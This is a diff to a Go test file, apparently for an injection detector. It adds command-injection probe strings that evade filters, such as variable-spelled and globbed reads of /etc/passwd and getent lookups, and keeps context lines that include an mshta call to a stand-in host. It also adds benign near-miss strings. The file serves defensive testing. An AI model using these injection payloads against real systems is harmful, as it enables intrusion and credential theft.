@@ -40,7 +40,10 @@ func TestShortPayloads(t *testing.T) {
 		// backslash-newline, cmd.exe's substrings of nothing, a command's
 		// path, Windows' commands in upper case, start
 		"x;i\\\nd", "x;who\\\nami", "x;i\\\r\nd", "x & w%PATH:~0,0%hoami", "x & n%A:~0,0%et user", "x & %SystemRoot%\\system32\\net user",
-		"x & VER", "x & Ver", "x & start calc", `x & start "" mshta http://e/x`} {
+		"x & VER", "x & Ver", "x & start calc", `x & start "" mshta http://e/x`,
+		// an eighth's (attack 12): a command spelled by variables or a
+		// glob, getent
+		"127.0.0.1;a=i;b=d;$a$b", "127.0.0.1;/bin/ca? /etc/pa??wd", "127.0.0.1;getent passwd", "x && getent hosts e.x"} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -128,6 +131,7 @@ func TestShortPayloads(t *testing.T) {
 		// near the seventh attack's Windows commands
 		"IP & host name", "R&D; Ver 2.0", "Q&A; start here", "Tom & start the car", "x & version", "the 50%:~0,0% mark", "a\\\nb; id card",
 		"C:\\Users\\me & notes", "A & Whoa, amazing",
+		"costs $5; $a is the var", "Prices: $a$b are variables; see /bin/ for tools", "see /usr/bin/*.sh; getent is a tool", "A; getent", "x; getent is a tool",
 		// several words and other scripts before a quote (F5's near misses)
 		"Jürgen's #1 fan", "the Müllers' -- all of them", "rock 'n' roll -- yes", "he said 'hi' -- then left", "Café 'Zum Löwen' #3",
 		// Markdown tables, inline code, line lists and prose (a fifth
